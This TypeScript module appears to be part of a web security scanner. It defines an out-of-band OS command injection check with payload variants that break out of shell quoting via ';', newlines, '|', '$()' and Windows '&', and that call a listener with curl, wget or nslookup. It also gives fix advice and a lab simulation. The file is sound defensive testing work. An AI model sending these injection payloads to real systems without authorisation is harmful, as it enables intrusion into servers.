import type { OutsideNames } from '../../../oracle/outside.ts';
import { definePointCheck } from '../../define-active-check.ts';
import { at, evenUnanswered, type Nonce } from '../../experiment.ts';
import type { LabTools } from '../../lab.ts';
import { quoteForShell, runShell } from '../../labs/shell.ts';
import { fill } from '../../shared/fill.ts';

/** How our command is separated from the original one. */
interface Variant {
  /** With a placeholder for the command. */
  separated: string;
  system: 'unix' | 'windows';
  /** The only colon is one at the end: some targets split the value at it, into a host and a port. */
  isHostAndPort?: boolean;
}

/** Prints a colon. */
const COLON = '$(date +%T|cut -c3)';

/** Only a shell computes the product: software that merely follows URLs calls back without it. */
const COMMANDS = {
  unix(url: string, host: string | null, sum: string) {
    const product = `$((${sum}))`;
    const lookUp = host === null ? '' : `||nslookup ${product}.${host}`;
    return `curl -s -m 5 ${url}/${product}||wget -q -T 5 -O - ${url}/${product}${lookUp}`;
  },
  windows: (url: string, _host: string | null, sum: string) =>
    `for /f %i in ('set /a ${sum}') do curl -s -m 5 ${url}/%i`,
};

const productOf = ({ numbers: [a, b] }: Nonce) => String(a * b);

function commandOf(variant: Variant, { word, numbers: [a, b] }: Nonce, outside: OutsideNames): string {
  const url = outside.urlFor(word);
  const written = variant.isHostAndPort ? url.replaceAll(':', COLON) : url;
  return COMMANDS[variant.system](written, outside.hostFor(word), `${a}*${b}`);
}

function write(variant: Variant, value: string, nonce: Nonce, outside: OutsideNames): string {
  const port = variant.isHostAndPort && !value.includes(':') ? ':80' : '';
  return `${value}${fill(variant.separated, { command: commandOf(variant, nonce, outside) })}${port}`;
}

/** Breaks out of no quotes, single and double quotes at once; the rest is a comment in each case. */
const inAnyQuotes = (sign: string) => ['', "'", '"'].map((quote) => `${quote}${sign}{command} #`).join('');

const unix = (separated: string): Variant => ({ separated, system: 'unix' });

const VARIANTS: readonly Variant[] = [
  { ...unix(inAnyQuotes(';')), isHostAndPort: true },
  unix('$({command})'),
  unix(inAnyQuotes('\n')),
  unix(inAnyQuotes('|')),
  { separated: '&{command}&"&{command}&"', system: 'windows' },
];

export default definePointCheck({
  id: 'command-injection-oob',
  flaw: { name: 'command-injection', rank: 2 },
  provesInterpreter: true,
  title: 'OS command injection (blind, out-of-band)',
  cwe: 78,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
  impact: 'An attacker runs arbitrary commands on the server with the privileges of the application.',
  why: 'The value becomes part of a shell command. An attacker runs arbitrary programs on the server with the privileges of the application. A command in the value multiplied two numbers and called our listener with the product.',
  fix: 'Start programs without a shell and pass the value as a separate argument (execFile, subprocess with a list). Validate it against an allowlist. Prefer a library to an external program.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/12-Testing_for_Command_Injection',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  risk: 'harmless',
  depth: 'STANDARD',
  locations: ['query', 'path', 'form', 'json', 'xml', 'multipart', 'fileName', 'graphql', 'cookie', 'header'],
  appliesTo: () => true,
  needsOutside: true,
  variants: VARIANTS,
  maxRequests: 9,
  proof: {
    plan(point, variant, nonce, { outside }) {
      if (!outside) return undefined;
      const value = write(variant, point.parameter.value, nonce, outside);
      const calling = { tag: nonce.word, kind: 'http' } as const;
      // The command may keep the target from responding, but not from calling.
      return {
        attack: evenUnanswered(at(point, 'command that calls our listener with a computed number', value, { calling })),
      };
    },
    judge({ attack }, _variant, nonce) {
      const heard = attack.heard ?? [];
      if (heard.some(({ detail }) => detail === productOf(nonce))) return 'PROVED';
      // The URL was followed without being evaluated by a shell.
      return heard.length > 0 ? 'REFUTED' : 'VOID';
    },
  },
  lab(tools?: LabTools) {
    const send = async (command: string) => {
      for (const url of runShell(`curl() { for url in "$@"; do :; done; echo "$url"; }\n${command}`).output.split(
        '\n',
      )) {
        await tools?.get(url);
      }
      return { status: 202, body: 'Thank you' };
    };
    return {
      location: 'form',
      parameter: 'address',
      value: 'alice@shop.test',
      vulnerable: (value) => send(`true '${value}'`),
      safe: (value) => send(`true ${quoteForShell(value)}`),
    };
  },
});
